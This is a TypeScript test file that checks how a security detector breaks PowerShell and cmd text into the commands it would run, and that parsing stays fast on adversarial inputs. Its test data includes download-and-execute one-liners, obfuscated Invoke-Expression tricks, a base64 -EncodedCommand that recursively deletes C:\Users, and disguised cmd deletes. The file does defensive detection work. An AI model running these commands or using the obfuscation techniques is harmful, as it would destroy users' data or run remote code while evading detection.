/** What PowerShell and cmd text runs, as tables: the commands that it comes to, one after another. And its bounds. */
import { createRequire } from 'node:module';
import { beforeAll, expect, test } from 'vitest';
import { createShellParser, type ShellParser } from '../../../../server/detect/commands/shellParser.ts';
import { interpretWindows } from '../../../../server/detect/commands/windows/interpret.ts';
import { processorTime } from '../../../support/processorTime.ts';

const require = createRequire(import.meta.url);
let parser: ShellParser;
beforeAll(async () => {
  parser = await createShellParser({
    runtimeWasm: require.resolve('web-tree-sitter/web-tree-sitter.wasm'),
    bashWasm: require.resolve('tree-sitter-bash/tree-sitter-bash.wasm'),
  });
});

function commandsOf(text: string, dialect: 'powershell' | 'cmd' = 'powershell'): readonly string[] {
  const found: string[] = [];
  const nothing = (): void => undefined;
  interpretWindows(
    {
      touch: nothing,
      fetch: nothing,
      hide: nothing,
      note: ({ program, args }) => found.push([program, ...args].join(' ').replaceAll('\uFFFC', '…')),
    },
    text,
    dialect,
  );
  return found;
}

test.each<[text: string, commands: readonly string[]]>([
  ['ri -r x', ['remove-item -r x']],
  ['iwr http://e | iex', ['invoke-webrequest http://e', 'invoke-expression']],
  ['iex(irm http://e)', ['invoke-expression …', 'invoke-restmethod http://e']],
  ['I`E`X x', ['invoke-expression x', 'x']],
  ["& ('ie'+'x') 'ri -r x'", ['invoke-expression ri -r x', 'remove-item -r x']],
  ["$a = 'iex'; & $a 'del x'", ['invoke-expression del x', 'remove-item x']],
  ["& ('{1}{0}' -f 'x','ie') y", ['invoke-expression y', 'y']],
  [
    "(New-Object Net.WebClient).DownloadString('http://e')",
    ['.downloadstring ….DownloadString… http://e', 'new-object Net.WebClient'],
  ],
  ['if ($x) { del a } else { del b }', ['if … … else …', 'remove-item a', 'remove-item b']],
  ['# del a', []],
  ['"a; b" ', ['a; b']],
  ['cmd /c "del a & del b"', ['cmd /c del a & del b', 'remove-item a', 'remove-item b']],
  ['Start-Process x.exe -ArgumentList y', ['start-process x.exe -ArgumentList y', 'x y']],
])('%s', (text, commands) => {
  expect(commandsOf(text)).toEqual(commands);
});

test.each<[text: string, commands: readonly string[]]>([
  ['d^e^l a && r^d b', ['remove-item a', 'remove-item b']],
  ['start "" x.exe', ['start  x.exe', 'x']],
  ['if exist a del a', ['if exist a del a', 'remove-item a']],
  ['for %i in (a b) do del %i', ['for %i in … do del %i', 'a b', 'remove-item %i']],
])('cmd: %s', (text, commands) => {
  expect(commandsOf(text, 'cmd')).toEqual(commands);
});

test('the argument of -EncodedCommand is read', () => {
  const code = Buffer.from('Remove-Item -Recurse C:\\Users', 'utf16le').toString('base64');
  const { commands } = parser.parse(`powershell -NoProfile -enc ${code}`);
  expect(commands.map(({ program }) => program)).toContain('remove-item');
});

test.each([
  ['brackets', '('.repeat(100_000)],
  ['closed brackets', '('.repeat(50_000) + ')'.repeat(50_000)],
  ['quotes', '"\''.repeat(50_000)],
  ['variables', '$a'.repeat(50_000)],
  ['escapes', '`'.repeat(100_000)],
  ['concatenations', `(${"'a'+".repeat(20_000)}'b')`],
  ['pipes', '|'.repeat(100_000)],
])('is linear in %s', (_, text) => {
  const started = processorTime();
  commandsOf(text);
  expect(processorTime() - started).toBeLessThan(2000);
});
